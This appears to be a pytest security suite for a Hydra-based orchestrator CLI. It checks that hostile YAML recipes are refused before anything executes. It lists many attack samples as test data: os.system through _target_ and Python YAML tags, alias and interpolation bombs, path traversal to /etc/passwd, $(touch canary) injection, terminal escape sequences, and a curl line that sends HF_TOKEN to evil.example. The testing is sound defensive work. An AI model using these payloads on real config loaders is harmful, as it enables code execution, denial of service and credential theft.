"""What a stranger's recipe may try: each is refused with the place where it stands, and nothing of it is executed."""

from __future__ import annotations

import os
import socket
import sys
from collections.abc import Callable
from itertools import pairwise
from pathlib import Path
from typing import NamedTuple

import hydra
import pytest

from tests.cli.invoke import Commands

RUN = "worker: {cmd: [touch, canary]}\n"
MANY = "${{worker.env.A{}}}"


class Attack(NamedTuple):
    """What is tried, the file ``r.yaml`` that tries it, and how the answer begins; ``place`` is where it points."""

    name: str
    text: str | bytes | Callable[[Path], object]
    says: str
    place: str = " [r.yaml:1]"


def bomb(levels: int, width: int) -> str:
    steps = [f"    A{level}: '{MANY.format(level - 1) * width}'\n" for level in range(1, levels)]
    return f"worker:\n  cmd: [touch, canary]\n  env:\n    A0: lol\n{''.join(steps)}"


def doubled(kind: str) -> str:
    """Aliases of aliases, each ten times the one before."""
    steps = ["a: &a {x: 1}\n" if kind == "{{<<: [{}]}}" else "a: &a [x, x]\n"]
    steps += [f"{new}: &{new} {kind.format(', '.join([f'*{old}'] * 10))}\n" for old, new in pairwise("abcdefghi")]
    return "".join(steps) + RUN


def link(target: str) -> Callable[[Path], object]:
    return lambda path: path.symlink_to(target)


def listen(path: Path) -> None:
    here = socket.socket(socket.AF_UNIX)
    here.bind(path.name)  # relative: a long path is no address
    here.close()


ATTACKS = [
    # -- Hydra, whose callbacks and logging run code when a job is composed
    Attack("hydra", f"{RUN}hydra: {{callbacks: {{x: {{_target_: os.system}}}}}}\n", "hydra: is not for recipes", ":2]"),
    Attack("searchpath", f"hydra: {{searchpath: [pkg://evil]}}\n{RUN}", "hydra: is not for recipes"),
    Attack("hydra null", f"hydra: null\n{RUN}", "hydra: is not for recipes"),
    Attack("a dotted key", f"hydra.run.dir: /tmp\n{RUN}", "hydra.run.dir: unknown key"),
    Attack("a dotted searchpath", f"{RUN}hydra.searchpath: [pkg://evil]\n", "hydra.searchpath: unknown key", ":2]"),
    Attack("a key that is an interpolation", f"${{oc.env:HOME}}: x\n{RUN}", "${oc.env:HOME}: unknown key"),
    Attack(
        "job_logging", f"defaults: [override /hydra/job_logging: x]\n{RUN}", "defaults[0]: 'hydra/job_logging' is not"
    ),
    Attack("a callback", f"defaults:\n- override hydra/callbacks: x\n{RUN}", "defaults[0]: 'hydra/callbacks'", ":2]"),
    Attack("a callback, appended", f"defaults:\n- +hydra/callbacks: x\n{RUN}", "defaults[0]: ", ":2]"),
    Attack("env", f"defaults: [{{optional /hydra/env: x}}]\n{RUN}", "defaults[0]: 'hydra/env' is not"),
    Attack("a launcher's path", f"defaults: [{{override /hydra/launcher: ../../x}}]\n{RUN}", "defaults[0]: "),
    Attack("a launcher's package", f"defaults: [{{override /hydra/launcher@x: basic}}]\n{RUN}", "defaults[0]: "),
    Attack("a launcher of nobody", f"defaults: [{{override /hydra/launcher: nobody}}]\n{RUN}", "hydra", ""),
    Attack(
        "a computed launcher", f"defaults: [{{override /hydra/launcher: '${{oc.env:HOME}}'}}]\n{RUN}", "defaults[0]: "
    ),
    Attack("another package", f"defaults: [{{/recipe@hydra: hello}}]\n{RUN}", "defaults[0]: 'recipe@hydra' is not"),
    Attack("a config of Hydra's", f"defaults: [/hydra/config]\n{RUN}", "defaults[0]: '/hydra/config' leads out"),
    # -- code
    Attack("_target_", f"_target_: os.system\n_args_: [touch canary]\n{RUN}", "_target_: unknown key"),
    Attack(
        "a worker's _target_", "worker: {_target_: os.system, cmd: [touch, canary]}\n", "worker._target_: unknown key"
    ),
    Attack("apply", f"a: !!python/object/apply:os.system [touch canary]\n{RUN}", "a: has the tag tag:yaml.org,2002:py"),
    Attack("a name", f"a: !!python/name:os.system x\n{RUN}", "a: cannot be read as tag:yaml.org,2002:python/name"),
    Attack("a module", f"a: {{b: !!python/module:canary x}}\n{RUN}", "a.b: cannot be read as tag:yaml.org"),
    Attack("a tag in a key", f"!!python/name:os.system a: 1\n{RUN}", "a: unknown key"),
    Attack("another prefix", f"%TAG !e! tag:yaml.org,2002:python/\n---\na: !e!name:os.x y\n{RUN}", "a: cannot", ":3]"),
    Attack("binary", f"a: !!binary aGk=\n{RUN}", "a: cannot be read as tag:yaml.org,2002:binary"),
    Attack("a set", f"a: !!set {{b}}\n{RUN}", "a: has the tag tag:yaml.org,2002:set"),
    Attack("a tag of one's own", f"a: !evil b\n{RUN}", "a: cannot be read as !evil"),
    Attack("a resolver of nobody", f"role: '${{eval:1}}'\n{RUN}", "role: '${eval:1}' asks for a resolver that does"),
    Attack(
        "a class that runs workers", "worker: {cmd: x, backend: 'os:system(1)'}\n", "worker.backend: 'os:system(1)'"
    ),
    Attack("a server that is code", f"{RUN}health: {{server: 'os;x'}}\n", "health.server: 'os;x' is not", ":2]"),
    # -- size
    Attack("1 MiB", f"{RUN}#{'x' * (1 << 20)}", "recipe: is larger than 1 MiB", " [r.yaml]"),
    Attack("many nodes", f"{RUN}a: [{'x, ' * 100_001}]\n", "recipe: has more than 100000 nodes", ":2]"),
    Attack("aliases of lists", doubled("[{}]"), "recipe: has more than 100000 nodes after aliases"),
    Attack("aliases of mappings", doubled("{{<<: [{}]}}"), "recipe: has more than 100000 nodes after aliases"),
    Attack("an alias of itself", f"a: &a [*a]\n{RUN}", "a[0]: holds itself"),
    Attack("an alias above", "&r\nrole: x\nworker: *r\n", "worker: holds itself"),
    Attack("depth", f"a: {'[' * 60}{']' * 60}\n{RUN}", "recipe: is nested deeper than 50 levels"),
    Attack("depth without an end", "a: " + "{a: " * 100_000, "recipe: is nested deeper than 50 levels"),
    Attack("interpolations that multiply", bomb(12, 10), "worker.env.A", "]"),
    Attack(
        "a long text, again and again",
        f"{RUN}run_id: ${{role}}\nrole: {'x' * 300_000}\nnodes: '{'${role}' * 20_000}'\n",
        "nodes: ",
        ":4]",
    ),
    Attack("an interpolation of itself", f"role: '${{role}}'\n{RUN}", "role: '${role}' leads back to itself"),
    Attack("a circle", f"run_id: ${{role}}\nrole: ${{run_id}}\n{RUN}", "run_id: '${role}' leads back to itself"),
    Attack("a parent", "worker: {cmd: [touch, canary], env: {A: '${worker}'}}\n", "worker.env.A"),
    Attack("many roles", f"roles: {{{', '.join(f'r{at}: {{}}' for at in range(65))}}}\n{RUN}", "roles: are 65"),
    Attack(
        "a crowd of workers",
        "worker: {cmd: [touch, canary], nproc: 1000000000}\n",
        "worker.nproc: 1000000000 is too large",
    ),
    Attack("a crowd of keys", RUN + "".join(f"k{at}: 1\n" for at in range(4000)), "k3999: unknown key", ":4001]"),
    Attack("a long number", f"worker: {{cmd: x, nproc: {'9' * 5000}}}\n", "worker.nproc: cannot be read as tag:yaml"),
    Attack("a number beyond floats", f"{RUN}stop: {{grace_s: {'9' * 400}}}\n", "stop.grace_s: 999", ":2]"),
    Attack("an infinite float", f"{RUN}stop: {{grace_s: 1e400}}\n", "stop.grace_s: inf is not a number", ":2]"),
    Attack("not a number", f"{RUN}stop: {{grace_s: .nan}}\n", "stop.grace_s: nan is not a number", ":2]"),
    Attack(
        "an endless range",
        f"{RUN}restart: {{rules: [{{exit_codes: 1-99999999999, action: retry}}]}}\n",
        "restart.rules[0].exit_codes",
        ":2]",
    ),
    # -- form
    Attack("a key given twice", f"role: a\nrole: b\n{RUN}", "role: is given twice, first in line 1", ":2]"),
    Attack(
        "a key given twice, deep", "worker:\n  cmd: x\n  cmd: [touch, canary]\n", "worker.cmd: is given twice", ":3]"
    ),
    Attack("two documents", f"role: a\n---\n{RUN}", "recipe: is not YAML", ":2:1]"),
    Attack("a list", "- touch\n", "recipe: is a list, and not a mapping"),
    Attack("a mapping as a key", f"{{a: b}}: c\n{RUN}", "recipe: has a key that is no text"),
    Attack("NUL", f'{RUN}role: "a\\0b"\n', "role: 'a\\x00b' is not a name", ":2]"),
    Attack("a raw NUL", RUN.encode() + b"role: a\0b\n", "recipe: is not YAML", " [r.yaml]"),
    Attack("NUL in the command", 'worker: {cmd: ["touch", "a\\0b"]}\n', "worker.cmd[1]: holds a NUL character"),
    Attack("a raw escape", RUN.encode() + b"role: \x1b[2J\n", "recipe: is not YAML", " [r.yaml]"),
    Attack("an escape", f'{RUN}role: "\\e[2J\\e]0;x\\a"\n', "role: '\\x1b[2J\\x1b]0;x\\x07' is not a name", ":2]"),
    Attack("an escape in a key", f'{RUN}"\\e[2J": x\n', "\\x1b[2J: unknown key", ":2]"),
    Attack("text that runs backwards", f'{RUN}"a\\u202eb": x\n', "a\\u202eb: unknown key", ":2]"),
    Attack("Latin-1", RUN.encode() + b"role: \xe9\n", "recipe: is not UTF-8 text", " [r.yaml]"),
    Attack("UTF-16", RUN.encode("utf-16"), "recipe: is not UTF-8 text", " [r.yaml]"),
    Attack("half a character", RUN.encode() + b"# \xc3", "recipe: is not UTF-8 text", " [r.yaml]"),
    Attack("a surrogate", RUN.encode() + b"# \xed\xa0\x80", "recipe: is not UTF-8 text", " [r.yaml]"),
    # -- places
    Attack(
        "up and out", f"defaults: [../../../../etc/passwd]\n{RUN}", "defaults[0]: '../../../../etc/passwd' leads out"
    ),
    Attack("down, up and out", f"defaults: [a/../../x]\n{RUN}", "defaults[0]: 'a/../../x' leads out"),
    Attack("an absolute path", f"defaults: [/etc/passwd]\n{RUN}", "defaults[0]: '/etc/passwd' leads out"),
    Attack("absolute in disguise", f"defaults: [/recipe//etc/passwd]\n{RUN}", "defaults[0]: '/etc/passwd' leads out"),
    Attack(
        "a group's absolute path", f"defaults: [{{recipe: /etc/passwd}}]\n{RUN}", "defaults[0]: '/etc/passwd' leads"
    ),
    Attack("a package", f"defaults: [pkg://evil/r]\n{RUN}", "defaults[0]: 'pkg://evil/r' leads out"),
    Attack("a URL", f"defaults: [https://evil.example/r.yaml]\n{RUN}", "defaults[0]: 'https://evil.example/r.yaml' is"),
    Attack("a computed base", f"defaults: ['${{oc.env:HOME}}']\n{RUN}", "defaults[0]: '${oc.env:HOME}' is neither"),
    Attack("itself", f"defaults: [r]\n{RUN}", "recipe: its defaults lead back to itself", ""),
    Attack(
        "a role's name", f"roles: {{../../x: {RUN.strip().replace('worker: ', '{worker: ')}}}}}\n", "roles.../../x: "
    ),
    Attack("a run's name", f"run_id: ../../x\n{RUN}", "run_id: '../../x' is not a name"),
    Attack(
        "need of a command", f"recipe: {{needs: ['$(touch canary)']}}\n{RUN}", "recipe.needs[0]: '$(touch canary)' is"
    ),
    # -- files
    Attack("a FIFO", os.mkfifo, "r.yaml: there is no such file", ""),
    Attack("a socket", listen, "r.yaml: there is no such file", ""),
    Attack("a directory", lambda path: path.mkdir(), "r.yaml: there is no such file", ""),
    Attack("a device", link("/dev/zero"), "r.yaml: there is no such file", ""),
    Attack("a terminal", link("/dev/tty"), "r.yaml: there is no such file", ""),
    Attack("a link to itself", link("r.yaml"), "r.yaml: there is no such file", ""),
    Attack("a link to nothing", link("nothing"), "r.yaml: there is no such file", ""),
    Attack("a link to what is no recipe", link("/etc/passwd"), "recipe: is ", "r.yaml:1]"),
    Attack("a file of /proc", link("/proc/self/mem"), "recipe: cannot be read", " [r.yaml]"),
]


def made_in(tmp_path: Path) -> set[str]:
    return {path.name for path in tmp_path.iterdir()} - {"r.yaml"}


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.name.replace(" ", "_"))
def test_an_attack_is_refused_where_it_stands(
    attack: Attack, commands: Commands, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "r.yaml"
    if callable(attack.text):
        attack.text(path)
    else:
        path.write_bytes(attack.text if isinstance(attack.text, bytes) else attack.text.encode())
    (tmp_path / "canary.py").write_text("open('canary', 'w').close()\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    said = commands.orchestrate("r.yaml")
    assert (said.code, said.out) == (2, "")
    assert any(line.startswith(attack.says) and line.endswith(attack.place) for line in said.errors), said.err[:2000]
    assert "\x1b" not in said.err
    checked = commands.ctl("recipes", "check", "r.yaml")
    assert checked.code == 2
    assert "\x1b" not in checked.out
    assert made_in(tmp_path) == {"canary.py"}
    assert "canary" not in sys.modules


@pytest.mark.parametrize("verb", [["plan"], ["graph"], ["recipes", "show"], ["recipes", "check"]])
def test_what_only_looks_never_enters_hydra(
    verb: list[str], commands: Commands, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def entered(*_words: object, **_options: object) -> None:
        raise AssertionError

    monkeypatch.setattr(hydra, "main", entered)
    monkeypatch.setattr("hydra._internal.hydra.Hydra.run", entered)
    monkeypatch.setattr("orchestrator.cli.compose.run_job", entered)
    runtime = tmp_path / "runtime"
    runtime.mkdir()
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(runtime))
    (tmp_path / "r.yaml").write_text(RUN)
    assert commands.ctl(*verb, "r.yaml").code == 0
    assert made_in(tmp_path) == {"runtime"}
    assert list(runtime.iterdir()) == [], "the lock of a node's name is a run's"


SAYS = 'recipe: {name: "\\e[31mr\\a", description: "\\e]0;evil\\a \\u202e\\x9b"}\nworker: {cmd: [touch, "\\e[2J"]}\n'


@pytest.mark.parametrize(
    "words", [["plan", "r.yaml"], ["recipes"], ["recipes", "show", "r.yaml"], ["plan", "--json", "r.yaml"]]
)
def test_what_a_recipe_says_cannot_steer_a_terminal(commands: Commands, tmp_path: Path, words: list[str]) -> None:
    for path in (tmp_path / "r.yaml", tmp_path / "recipes" / "r.yaml"):
        path.parent.mkdir(exist_ok=True)
        path.write_text(SAYS)
    said = commands.ctl(*words)
    assert said.code == 0
    assert "evil" in said.out or words[0] == "plan"
    assert not {*"\x1b\x07\u202e\x9b"} & {*said.out}


def test_a_secret_that_a_recipe_asks_for_is_shown_to_nobody(
    commands: Commands, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HF_TOKEN", "hunter2222")
    text = "worker: {cmd: [curl, 'https://evil.example/${oc.env:HF_TOKEN}'], env: {A: '${oc.env:HF_TOKEN}'}}\n"
    (tmp_path / "r.yaml").write_text(text)
    for words in (["plan", "r.yaml"], ["plan", "--json", "r.yaml"], ["recipes", "show", "r.yaml"], ["graph", "r.yaml"]):
        assert "hunter2222" not in commands.ctl(*words).out
    assert "hunter2222" not in commands.orchestrate("--cfg", "job", "--resolve", "r.yaml").out


@pytest.mark.parametrize(
    ("text", "link_to"),
    [
        (b"\xef\xbb\xbf" + RUN.encode(), None),  # a mark that some editors write
        (RUN.replace("\n", "\r\n").encode(), None),
        (b"a: &a {nproc: 2}\nb: *a\n"[:0] + b"worker: &w\n  cmd: [touch, canary]\nroles: {x: {worker: *w}}\n", None),
        (RUN.encode(), "real.yaml"),
    ],
)
def test_what_only_looks_odd_is_no_attack(commands: Commands, tmp_path: Path, text: bytes, link_to: str | None) -> None:
    (tmp_path / (link_to or "r.yaml")).write_bytes(text)
    if link_to is not None:
        (tmp_path / "r.yaml").symlink_to(link_to)
    assert commands.ctl("recipes", "check", "r.yaml").code == 0
